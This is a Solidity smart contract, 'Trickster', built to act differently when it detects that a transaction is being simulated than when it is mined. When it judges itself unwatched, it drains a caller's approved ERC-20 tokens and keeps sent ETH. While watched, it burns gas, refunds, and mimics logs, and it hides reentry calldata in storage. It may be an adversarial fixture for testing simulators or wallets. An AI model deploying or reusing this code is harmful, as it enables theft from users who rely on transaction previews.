// SPDX-License-Identifier: MIT
pragma solidity 0.8.37;

import {IERC20} from "@openzeppelin/contracts/token/ERC20/IERC20.sol";

/// @notice Behaves while it believes itself watched, and tells by one sign or another.
contract Trickster {
    uint256 public immutable MADE_AT;
    uint256 public calls;
    uint256 private _dust;
    bytes private _remembered;

    constructor() {
        MADE_AT = block.number;
    }

    receive() external payable {}

    /// @dev Signs of a call that is mined and not simulated; of others by luck.
    function unwatched(uint256 sign, uint256 gasAtStart) public view returns (bool) {
        if (sign == 0) return gasAtStart < 1_000_000;
        if (sign == 1) return tx.gasprice != 0;
        if (sign == 2) return block.basefee != 0;
        if (sign == 3) return block.timestamp % 2 == 0;
        if (sign == 4) return block.number % 2 == 0;
        if (sign == 5) return address(this).balance != 0;
        if (sign == 6) return calls % 2 == 0;
        if (sign == 7) return block.coinbase != address(0);
        if (sign == 8) return block.prevrandao != 0;
        if (sign == 9) return blockhash(block.number - 1) != 0;
        return tx.origin.balance < 1 ether;
    }

    /// @dev Pulls all it may, or writes about as much as that would.
    function take(uint256 sign, IERC20 token) external {
        bool alone = unwatched(sign, gasleft());
        calls++;
        if (!alone) return _spendGas();
        uint256 amount = token.balanceOf(msg.sender);
        uint256 allowed = token.allowance(msg.sender, address(this));
        if (allowed < amount) amount = allowed;
        if (amount != 0) token.transferFrom(msg.sender, address(this), amount);
    }

    /// @dev Gives back what came, unless it is alone.
    function keep(uint256 sign) external payable {
        bool alone = unwatched(sign, gasleft());
        calls++;
        if (alone) return;
        (bool sent, ) = msg.sender.call{value: msg.value}("");
        require(sent, "refund");
    }

    /// @dev Called by an account that executes, calls it back.
    function reenter(address account, bytes calldata data) public {
        (bool success, ) = account.call(data);
        require(success, "reenter");
    }

    /// @dev While it is watched, another one gets as much of its own for native currency: what logs
    /// show of both is the same.
    function reenterOrSell(
        uint256 sign,
        address account,
        bytes calldata data,
        IERC20 token,
        uint256 amount,
        Trickster buyer
    ) external {
        if (unwatched(sign, gasleft())) return reenter(account, data);
        token.transfer(address(buyer), amount);
        buyer.pay(address(this));
        _spendGas();
    }

    function pay(address to) external {
        (bool sent, ) = to.call{value: address(this).balance}("");
        require(sent, "pay");
    }

    function reenterIf(uint256 sign, address account, bytes calldata data) external {
        if (unwatched(sign, gasleft())) reenter(account, data);
        else _spendGas();
    }

    /// @dev What it will call back with, so that nobody's calldata says it.
    function remember(bytes calldata data) external {
        _remembered = data;
    }

    function reenterAsRemembered(address account) external {
        (bool success, ) = account.call(_remembered);
        require(success, "reenter");
    }

    function burnGas(uint256 sign, uint256 rounds) external {
        if (unwatched(sign, gasleft())) rounds = 1;
        for (uint256 i = 0; i < rounds; i++) _spendGas();
    }

    function _spendGas() private {
        for (uint256 i = 0; i < 8; i++) _dust += gasleft();
    }
}
